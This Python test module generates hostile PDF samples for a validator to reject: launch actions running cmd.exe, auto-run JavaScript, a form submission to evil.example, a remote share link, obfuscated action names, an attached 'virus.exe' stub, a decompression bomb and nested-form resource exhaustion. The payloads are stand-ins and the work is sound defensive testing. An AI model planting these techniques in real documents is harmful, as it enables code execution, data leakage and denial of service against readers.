"""PDF files that act, carry, hide or overwhelm: (what it is, its bytes, the code it gets)."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from tests.documents.pictures import pdf_scan, photograph, saved

Row = tuple[str, bytes, str]

CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
ONE_PAGE = (b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>")


def hostile_pdfs() -> Iterator[Row]:
    yield from _acting()
    yield from _hidden_actions()
    yield from _carrying()
    yield from _locked()
    yield from _broken()
    yield from _too_much()


def changed(change: Callable[[Pdf], object], **options: Any) -> bytes:
    """A one-page PDF after `change`."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    change(pdf)
    return saved(pdf, **options)


def written_by_hand(*objects: bytes) -> bytes:
    """A PDF of numbered objects just as they stand here; object 1 is the catalogue."""
    output = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, content in enumerate(objects, 1):
        offsets.append(len(output))
        output += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    trailer = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(output))
    return bytes(output) + table + trailer


def action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name("/" + kind), **more)


def _link(pdf: Pdf, act: Dictionary, subtype: str = "/Link", **more: Any) -> None:
    annotation = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array([0, 0, 200, 200]), A=act, **more)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])


def _acting() -> Iterator[Row]:
    script = action("JavaScript", JS=String("app.alert(1)"))
    linked = {
        "program started by a link": action("Launch", F=String("cmd.exe")),
        "script in a link": script,
        "link that sends a form": action("SubmitForm", F=String("https://evil.example/")),
        "link that fetches data": action("ImportData", F=String("data.fdf")),
        "link to another file": action("GoToR", F=String("//evil.example/share/a.pdf"), D=Array([0, Name.Fit])),
        "link into a carried file": action("GoToE", D=Array([0, Name.Fit])),
        "link to a script address": action("URI", URI=String(" JavaScript:alert(1)")),
        "link to a local file": action("URI", URI=String("file:///c:/windows/system32/calc.exe")),
        "link that plays a film": action("Rendition", OP=0),
    }
    for what, act in linked.items():
        yield what, changed(lambda pdf, act=act: _link(pdf, act)), "active_content"  # type: ignore[misc]

    def on_opening(pdf: Pdf) -> None:
        pdf.Root.OpenAction = script

    def by_name(pdf: Pdf) -> None:
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))

    def when_a_page_opens(pdf: Pdf) -> None:
        pdf.pages[0].obj.AA = Dictionary(O=action("Named", N=Name.Print))

    def in_a_form(pdf: Pdf) -> None:
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))

    def after_another_action(pdf: Pdf) -> None:
        _link(pdf, action("GoTo", D=Array([0, Name.Fit]), Next=Array([script])))

    def as_postscript(pdf: Pdf) -> None:
        stream = pdf.make_stream(b"quit", Type=Name.XObject, Subtype=Name.PS)
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(P=stream))

    for change in (on_opening, by_name, when_a_page_opens, in_a_form, after_another_action, as_postscript):
        yield f"active content {change.__name__.replace('_', ' ')}", changed(change), "active_content"


def _hidden_actions() -> Iterator[Row]:
    def compressed(pdf: Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(action("JavaScript", JS=String("app.alert(1)")))

    in_stream = changed(compressed, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield "script in a compressed object stream", in_stream, "active_content"

    alone = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    yield "script nothing refers to", written_by_hand(CATALOGUE, *ONE_PAGE, alone), "active_content"
    spelt = b"<</Type/Catalog/Pages 2 0 R/Open#41ction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>>>"
    yield "script under a name spelt in numbers", written_by_hand(spelt, *ONE_PAGE), "active_content"
    deep = b"<</Type/Catalog/Pages 2 0 R/X[[[<</Y[<</Z<</S/Launch/F(cmd.exe)>>>>]>>]]]>>"
    yield "program deep inside other objects", written_by_hand(deep, *ONE_PAGE), "active_content"


def _carrying() -> Iterator[Row]:
    def attached(pdf: Pdf) -> None:
        pdf.attachments["virus.exe"] = b"MZ"

    def pinned(pdf: Pdf) -> None:
        carried = pikepdf.AttachedFileSpec(pdf, b"MZ", filename="virus.exe").obj
        _link(pdf, action("GoTo"), "/FileAttachment", FS=carried)

    def played(kind: str) -> Callable[[Pdf], None]:
        return lambda pdf: _link(pdf, action("GoTo"), kind)

    yield "attached program", changed(attached), "embedded_files"
    shy = b"<</Type/Catalog/Pages 2 0 R/X<</EF<</F 4 0 R>>>>>>", b"<</Length 2>>stream\nMZ\nendstream"
    yield "program attached without saying so", written_by_hand(shy[0], *ONE_PAGE, shy[1]), "embedded_files"
    yield "program pinned to a page", changed(pinned), "embedded_files"
    for kind in ("/RichMedia", "/Movie", "/Sound", "/Screen", "/3D"):
        yield f"annotation {kind}", changed(played(kind)), "embedded_files"


def _locked() -> Iterator[Row]:
    for what, user in (("to open", "secret"), ("to change", "")):
        locked = changed(lambda pdf: None, encryption=pikepdf.Encryption(user=user, owner="owner"))
        yield f"password needed {what}", locked, "encrypted"


def _broken() -> Iterator[Row]:
    scan = pdf_scan()
    yield "PDF cut short", scan[: len(scan) * 2 // 3], "unreadable"
    yield "PDF without its last line", scan[:-30], "unreadable"
    yield "PDF of its first line", scan[:9], "unreadable"
    yield "PDF of noise", b"%PDF-1.7\n" + bytes(range(256)) * 8, "unreadable"
    yield "PDF without pages", saved(pikepdf.new()), "unreadable"
    loop = written_by_hand(CATALOGUE, b"<</Type/Pages/Kids[2 0 R]/Count 1>>")
    yield "PDF whose pages go in circles", loop, "unreadable"
    jpeg = photograph()
    yield "PDF around half a photograph", pdf_around(jpeg[: len(jpeg) // 2], Name.DCTDecode), "unreadable"
    yield "PDF around no photograph", pdf_around(b"not a JPEG at all", Name.DCTDecode), "unreadable"
    yield "PDF with a damaged stream", pdf_around(b"not zlib", Name.FlateDecode), "unreadable"
    twice = pdf_around(zlib.compress(jpeg), Array([Name.FlateDecode, Name.DCTDecode]))
    yield "PDF around a photograph packed twice", twice, "unreadable"


def _too_much() -> Iterator[Row]:
    yield "PDF of 51 pages", pdf_scan(51), "too_many_pages"
    bomb = zlib.compressobj(9)
    packed = b"".join(bomb.compress(bytes(1024 * 1024)) for _ in range(40)) + bomb.flush()
    yield "PDF that unpacks to 40 MB", pdf_around(packed, Name.FlateDecode), "too_complex"
    yield "PDF with a picture of 30,000 by 30,000", pdf_around(photograph(), Name.DCTDecode, 30_000), "too_many_pixels"
    yield "PDF of 50,000 objects", written_by_hand(CATALOGUE, *ONE_PAGE, *[b"0"] * 50_000), "too_complex"


def pdf_around(data: bytes, filters: Name | Array, side: int = 100) -> bytes:
    def add(pdf: Pdf) -> None:
        image = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=side, Height=side)
        image.BitsPerComponent, image.ColorSpace = 8, Name.DeviceRGB
        image.write(data, filter=filters)
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=image))

    return changed(add, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def nested_forms(depth: int, each: int) -> bytes:
    """A page that draws a form that draws a form … `each` times at each of `depth` levels: a few bytes, much work."""
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]%s/Length %d>>stream\n%s\nendstream"
    drawn = b"/F Do " * each
    forms = [form % (b"/Resources<</XObject<</F %d 0 R>>>>" % (6 + n), len(drawn), drawn) for n in range(depth)]
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>/Contents 4 0 R>>"
    begun = b"<</Length 5>>stream\n/F Do\nendstream"
    last = form % (b"", 12, b"0 0 9 9 re f")
    return written_by_hand(CATALOGUE, ONE_PAGE[0], page, begun, *forms, last)
